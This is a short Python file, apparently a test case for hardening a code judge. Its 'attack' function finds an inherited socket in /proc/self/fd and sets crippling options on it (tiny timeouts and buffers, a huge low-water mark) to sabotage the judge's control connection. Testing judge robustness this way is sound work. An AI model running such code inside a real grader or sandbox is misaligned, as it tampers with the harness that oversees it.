"""Sets options of the shared connection: time-outs, tiny buffers, filters."""
#: verdict = ["wrong_answer", "runtime_error", "time_limit_exceeded"]
import os
import socket
import struct

def attack(number):
    control = next(int(fd) for fd in os.listdir("/proc/self/fd") if "socket" in os.path.realpath(f"/proc/self/fd/{fd}"))
    shared = socket.socket(fileno=os.dup(control))
    options = [(socket.SO_RCVTIMEO, struct.pack("ll", 0, 1)), (socket.SO_SNDTIMEO, struct.pack("ll", 0, 1)),
               (socket.SO_SNDBUF, 1), (socket.SO_RCVBUF, 1), (socket.SO_RCVLOWAT, 1 << 30),
               (socket.SO_PASSCRED, 1), (socket.SO_KEEPALIVE, 1), (42, 5), (socket.SO_OOBINLINE, 1)]
    for option, value in options:
        try:
            shared.setsockopt(socket.SOL_SOCKET, option, value)
        except OSError:
            pass
    return "set"
